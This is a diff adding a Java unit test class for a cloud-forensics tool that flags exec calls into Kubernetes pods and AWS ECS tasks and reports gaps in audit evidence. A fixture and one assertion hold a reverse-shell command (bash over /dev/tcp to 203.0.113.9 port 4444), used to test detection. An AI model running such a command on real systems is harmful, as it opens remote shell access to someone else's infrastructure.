@@ -1,0 +1,146 @@
+package org.ephemera.analyze.activity;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.ephemera.analyze.testing.FixtureCalls.USER;
+
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+import org.ephemera.analyze.model.Finding;
+import org.ephemera.analyze.model.Gap;
+import org.ephemera.analyze.testing.FixtureAnswer;
+import org.ephemera.analyze.testing.SealedFixture;
+import org.ephemera.evidence.Outcome;
+import org.ephemera.testing.InMemory;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** What the rules on calls say that they could not see. */
+class BlindTest {
+    private static final String REVERSE_SHELL = "/api/v1/namespaces/shop/pods/checkout-1/exec?container=checkout"
+            + "&command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261";
+    private static final String SHELL = "{\"cluster\":\"shop\",\"task\":\"9f3c1a7be4d24c0f8a6b5d2e17c0934a\","
+            + "\"container\":\"checkout\",\"command\":\"/bin/sh\",\"interactive\":true}";
+
+    @TempDir(factory = InMemory.class)
+    Path folder;
+
+    private static List<String> of(String what, ActivityRules.Result result) {
+        return result.gaps().stream()
+                .filter(gap -> gap.what().equals(what))
+                .map(Gap::why)
+                .toList();
+    }
+
+    private static Scene session(String id) {
+        Scene scene = new Scene();
+        ObjectNode entry = scene.aws(0, USER, "ecs:ExecuteCommand", SHELL);
+        entry.putObject("responseElements").putObject("session").put("sessionId", id);
+        return scene;
+    }
+
+    @Test
+    void anExecOverWebSocketIsSeenAndDecoded() {
+        Scene scene = new Scene();
+        scene.kubernetes("jane", "get", REVERSE_SHELL, "pods", "exec");
+        ActivityRules.Result result = scene.judge(folder);
+        Finding exec = result.findings().getFirst();
+        assertThat(exec.rule().id()).isEqualTo("EXE-001");
+        assertThat(exec.subject()).isEqualTo("shop/checkout-1/checkout");
+        assertThat(exec.because()).contains("get pods/exec: bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
+        assertThat(of("EXE-001", result)).isEmpty();
+    }
+
+    @Test
+    void anAuditLogWithoutReadsHidesIt() {
+        Scene scene = new Scene();
+        scene.kubernetes("jane", "create", "/api/v1/namespaces/shop/pods", "pods", "");
+        assertThat(of("EXE-001", scene.judge(folder)))
+                .singleElement()
+                .asString()
+                .contains("kube-audit-admin");
+    }
+
+    @Test
+    void aSessionsLogIsItsEvidence() {
+        SealedFixture fixture = SealedFixture.in(folder)
+                .item(
+                        "aws.ecs.exec-session",
+                        Map.of("session", "s-1"),
+                        FixtureAnswer.json("logs:GetLogEvents", "{\"events\":[]}"));
+        ActivityRules.Result result = session("s-1").judge(fixture);
+        assertThat(of("EXE-004", result)).isEmpty();
+        assertThat(result.findings().getFirst().evidence())
+                .extracting(evidence -> evidence.file().split("/", -1)[2])
+                .containsExactly("aws.cloudtrail.events.1", "aws.ecs.exec-session.1");
+    }
+
+    @Test
+    void aSessionWithoutALogIsAGap() {
+        assertThat(of("EXE-004", session("s-1").judge(folder.resolve("a"))))
+                .containsExactly(
+                        "what was typed in the session s-1 is not known: no log of it was found where sessions are logged");
+        SealedFixture off = SealedFixture.in(folder.resolve("b"))
+                .item("aws.cloudtrail.events", Map.of("execLogging", "NONE"), new Outcome.Empty("nothing"));
+        assertThat(of("EXE-004", session("s-1").judge(off)))
+                .containsExactly(
+                        "what was typed in the session s-1 is not known: the cluster does not log exec sessions");
+        SealedFixture denied = SealedFixture.in(folder.resolve("c"))
+                .item(
+                        "aws.ecs.exec-session",
+                        Map.of("session", "s-1"),
+                        new Outcome.Denied("s3:GetObject", "s3:GetObject is missing"));
+        assertThat(of("EXE-004", session("s-1").judge(denied)))
+                .singleElement()
+                .asString()
+                .contains("s3:GetObject is missing");
+    }
+
+    @Test
+    void anExecThatWasAnsweredWithoutASessionMayNotHaveRun() {
+        Scene scene = new Scene();
+        scene.aws(0, USER, "ecs:ExecuteCommand", SHELL);
+        assertThat(of("EXE-004", scene.judge(folder)))
+                .singleElement()
+                .asString()
+                .contains("not known whether it ran");
+    }
+
+    @Test
+    void callsThatMayNotBeReadAreAGap() {
+        SealedFixture denied = SealedFixture.in(folder.resolve("a"))
+                .item(
+                        "aws.cloudtrail.events",
+                        Map.of("a", "2"),
+                        new Outcome.Denied("cloudtrail:LookupEvents", "cloudtrail:LookupEvents is missing"));
+        assertThat(of("EXE", new Scene().judge(denied)))
+                .singleElement()
+                .asString()
+                .contains("DENIED", "is missing");
+        assertThat(of("EXE", new Scene().judge(folder.resolve("b"))))
+                .singleElement()
+                .asString()
+                .contains("no log of calls");
+    }
+
+    @Test
+    void oneRegionIsNotTheWorld() {
+        Scene scene = new Scene();
+        scene.aws(0, USER, "ecs:CreateCluster", "{}");
+        assertThat(of("EXE-010", scene.judge(folder)))
+                .singleElement()
+                .asString()
+                .contains("eu-central-1");
+    }
+
+    @Test
+    void theCollectorsOwnCallsAreNoFindings() {
+        Scene scene = new Scene();
+        String collector = "arn:aws:sts::111122223333:assumed-role/ephemera-collector/test";
+        scene.aws(0, collector, "ecs:DescribeTasks", "{}");
+        scene.kubernetes("jane", "list", "/api/v1/pods", "pods", "");
+        ActivityRules.Result result = scene.judge(SealedFixture.in(folder).principal(collector));
+        assertThat(result.findings()).isEmpty();
+    }
+}
